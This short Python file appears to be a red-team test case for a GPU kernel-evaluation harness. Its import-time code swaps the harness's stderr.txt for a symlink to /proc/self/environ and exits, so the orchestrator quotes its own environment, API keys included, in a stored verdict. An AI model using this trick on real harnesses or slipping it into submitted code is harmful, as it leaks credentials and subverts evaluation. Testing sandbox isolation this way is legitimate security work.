"""Attack (read-back): replace the harness's stderr.txt with a symlink to /proc/self/environ and die, so that
the orchestrator quotes its own environment (API keys included) in the stored verdict message."""
import os

import torch
import triton
import triton.language as tl

TASK = "double"
SPACE = {"BLOCK": [128, 256], "num_warps": [4]}

os.remove("stderr.txt")  # the working directory is the scratch directory
os.symlink("/proc/self/environ", "stderr.txt")
os._exit(3)


@triton.jit
def _double(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
    tl.store(y_ptr + offs, (x * 2 + 1).to(y_ptr.dtype.element_ty), mask=mask)


def launch(x, BLOCK=256, num_warps=4):
    y = torch.empty_like(x)
    _double[(triton.cdiv(x.numel(), BLOCK),)](x, y, x.numel(), BLOCK=BLOCK, num_warps=num_warps)
    return y
